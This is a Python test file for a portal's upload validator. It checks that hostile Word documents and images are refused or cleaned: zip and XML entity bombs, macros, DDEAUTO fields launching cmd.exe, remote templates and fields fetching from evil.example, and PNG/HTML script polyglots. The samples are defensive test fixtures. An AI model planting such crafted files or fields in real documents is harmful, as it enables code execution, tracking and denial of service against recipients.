"""The upload checks for Word documents (zip structure, macros, fields, links out) and images
(re-encoding, metadata removed, polyglots)."""

import io
import os
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from portal.documents.validation import reencode_image, validate_upload

from .upload_samples import CONTENT_TYPES, DOCUMENT, DOCX, MB, docx, jpeg, png, rejected, upload

# Word documents


@pytest.fixture(scope="module")
def zip_bomb():
    """A docx whose document.xml unpacks to 200 MB of zeros: about 200 KB on disk. Built by streaming."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        with zf.open("word/document.xml", "w") as entry:
            zeros = bytes(MB)
            for _ in range(200):
                entry.write(zeros)
    return out.getvalue()


def test_docx_zip_bomb_is_rejected_without_extracting(zip_bomb, monkeypatch):
    assert len(zip_bomb) < MB

    def no_extracting(*args, **kwargs):
        raise AssertionError("a zip entry was opened")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_extracting)
    assert rejected(zip_bomb, "report.docx").code == "docx_big"


def test_docx_high_compression_ratio_single_entry():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("word/document.xml", DOCUMENT)
        zf.writestr("word/media/blank.bin", bytes(20 * MB))  # 20 MB of zeros, about 20 KB compressed
    assert rejected(out.getvalue(), "a.docx").code == "docx_big"


def test_docx_with_macros():
    assert rejected(docx([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]), "a.docx").code == "docx_active"


@pytest.mark.parametrize(
    "name", ["word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin", "word/embeddings/Book1.xlsm"]
)
def test_docx_with_activex_or_ole(name):
    assert rejected(docx([(name, b"<x/>")]), "a.docx").code == "docx_active"


def test_docx_with_remote_template():
    rels = (
        b"<Relationships><Relationship Id='rId1' TargetMode='External' Target='http://evil.example/t.dotm' "
        b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
        b"</Relationships>"
    )
    assert rejected(docx([("word/_rels/settings.xml.rels", rels)]), "a.docx").code == "docx_active"


def test_docx_with_too_many_entries():
    many = [(f"word/media/image{i}.png", b"x") for i in range(1001)]
    assert rejected(docx(many), "a.docx").code == "docx_big"


def test_docx_end_record_claiming_huge_directory():
    data = bytearray(docx())
    at = data.rfind(b"PK\x05\x06")
    data[at + 12 : at + 16] = struct.pack("<I", 50 * MB)
    assert rejected(bytes(data), "a.docx").code == "docx_big"


@pytest.mark.parametrize("skip", ["word/document.xml", "[Content_Types].xml"])
def test_docx_missing_required_parts(skip):
    assert rejected(docx(skip=[skip]), "a.docx").code == "docx_damaged"


def test_zip_that_is_not_a_docx():
    assert rejected(b"PK\x03\x04" + b"\x00" * 200, "a.docx").code == "docx_damaged"
    truncated = docx()[:-30]
    assert rejected(truncated, "a.docx").code == "docx_damaged"


# Images


def noisy_png(size=(64, 64)):
    out = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, "PNG")
    return out.getvalue()


def test_png_html_polyglot_is_reencoded_without_the_tail():
    data = noisy_png() + b"<script>alert(document.cookie)</script>"
    assert len(data) > 2048  # the script is past the first kilobyte, where sniffing looks
    f = upload("photo.png", data)
    validated = validate_upload(f)
    assert validated.content_type == "image/png"
    clean = reencode_image(f, validated)
    content = clean.read()
    assert b"<script" not in content
    assert content.startswith(b"\x89PNG\r\n\x1a\n")
    assert clean.name == "photo.png"
    assert Image.open(io.BytesIO(content)).tobytes() == Image.open(io.BytesIO(data)).tobytes()
    assert f.tell() == 0


def test_small_png_html_polyglot_is_rejected():
    # A tiny picture puts the script inside the first kilobyte, where a browser might sniff it.
    assert rejected(png() + b"<script>alert(1)</script>", "photo.png").code == "web_page"


def test_jpeg_reencode_strips_exif_and_applies_orientation():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees when shown
    exif[0x010F] = "Phone maker"
    data = jpeg(size=(40, 20), exif=exif.tobytes())
    f = upload("IMG_0001.JPG", data)
    clean = reencode_image(f, validate_upload(f)).read()
    image = Image.open(io.BytesIO(clean))
    assert image.format == "JPEG"
    assert image.size == (20, 40)
    assert not image.getexif()
    assert b"Phone maker" not in clean


def test_png_reencode_keeps_transparency():
    data = png(mode="P", transparency=0)
    f = upload("icon.png", data)
    image = Image.open(io.BytesIO(reencode_image(f, validate_upload(f)).read()))
    assert image.mode == "P" and image.info.get("transparency") == 0


@pytest.mark.parametrize("make", [png, jpeg])
def test_truncated_image(make):
    data = make(size=(200, 200))
    assert rejected(data[: len(data) // 2], "a.img").code == "image_damaged"


def test_image_with_too_many_pixels():
    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, "PNG")  # 48 megapixels, a few KB on disk
    assert rejected(out.getvalue(), "big.png").code == "image_big"


def test_png_header_claiming_huge_size():
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    assert rejected(data, "bomb.png").code == "image_big"


def test_fake_jpeg():
    assert rejected(b"\xff\xd8\xff" + b"not really a picture" * 10, "a.jpg").code == "image_damaged"


# Word documents: fields, links out and pulled-in documents (parsed as XML, never searched as bytes)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def word_body(inner):
    return f'<?xml version="1.0"?><w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>'.encode()


def field_in_runs(*pieces):
    """A field whose code is split over several runs, as Word writes it after editing."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def relationships(kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId7" Type="{R_TYPE}{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


@pytest.mark.parametrize(
    "document",
    [
        word_body('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'),
        word_body(field_in_runs("DD", "E excel ", '"c:\\\\x"')),
        word_body(field_in_runs(' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\a.docx" ')),
        word_body(field_in_runs(' includepicture "http://evil.example/track.png" \\d ')),
        word_body(field_in_runs(" LINK Excel.Sheet.12 ", '"http://evil.example/x.xlsx"')),
        word_body(
            '<w:r><w:t>x</w:t></w:r></w:p><w:altChunk r:id="rId7" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:p>'
        ),
        word_body("<w:r><w:object><w:t>embedded</w:t></w:object></w:r>"),
    ],
    ids=["dde-simple", "dde-split-over-runs", "includetext", "includepicture-lowercase", "link", "altchunk", "object"],
)
def test_docx_with_fields_that_run_or_fetch_or_pulled_in_content(document):
    data = docx(document=document)
    assert rejected(data, "a.docx").code == "docx_active"


@pytest.mark.parametrize(
    ("part", "rels"),
    [
        ("word/_rels/document.xml.rels", relationships("image", "http://evil.example/pixel.png")),
        ("word/_rels/document.xml.rels", relationships("oleObject", "file://evil.example/x.bin")),
        ("word/_rels/document.xml.rels", relationships("aFChunk", "afchunk.mht", external=False)),
        ("word/_rels/settings.xml.rels", relationships("attachedTemplate", "https://evil.example/t.dotm")),
        ("word/_rels/webSettings.xml.rels", relationships("frame", "http://evil.example/f.html")),
    ],
    ids=["remote-picture", "remote-object", "altchunk-part", "remote-template", "frame"],
)
def test_docx_with_links_out_or_pulled_in_documents(part, rels):
    assert rejected(docx([(part, rels)]), "a.docx").code == "docx_active"


def test_docx_with_ordinary_fields_and_a_web_link_is_fine():
    document = word_body(field_in_runs(" PAGE ") + field_in_runs(" HYPERLINK ", '"https://www.gov.uk/"'))
    rels = relationships("hyperlink", "https://www.gov.uk/")
    data = docx([("word/_rels/document.xml.rels", rels)], document=document)
    assert validate_upload(upload("a.docx", data)).content_type == DOCX


def test_docx_part_that_is_not_xml_is_damaged():
    data = docx([("word/styles.xml", b"<w:styles <<< not xml")])
    assert rejected(data, "a.docx").code == "docx_damaged"


def test_docx_with_an_entity_expansion_bomb_is_not_expanded():
    """Entities are never expanded (a billion of them would take the server's memory): the parser
    stops at once, and a file Word would never write is refused as damaged."""
    entities = '<!ENTITY e0 "aaaaaaaaaa">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]><w:document {W}><w:body><w:p><w:r>'
        "<w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    assert rejected(docx(document=bomb), "a.docx").code == "docx_damaged"
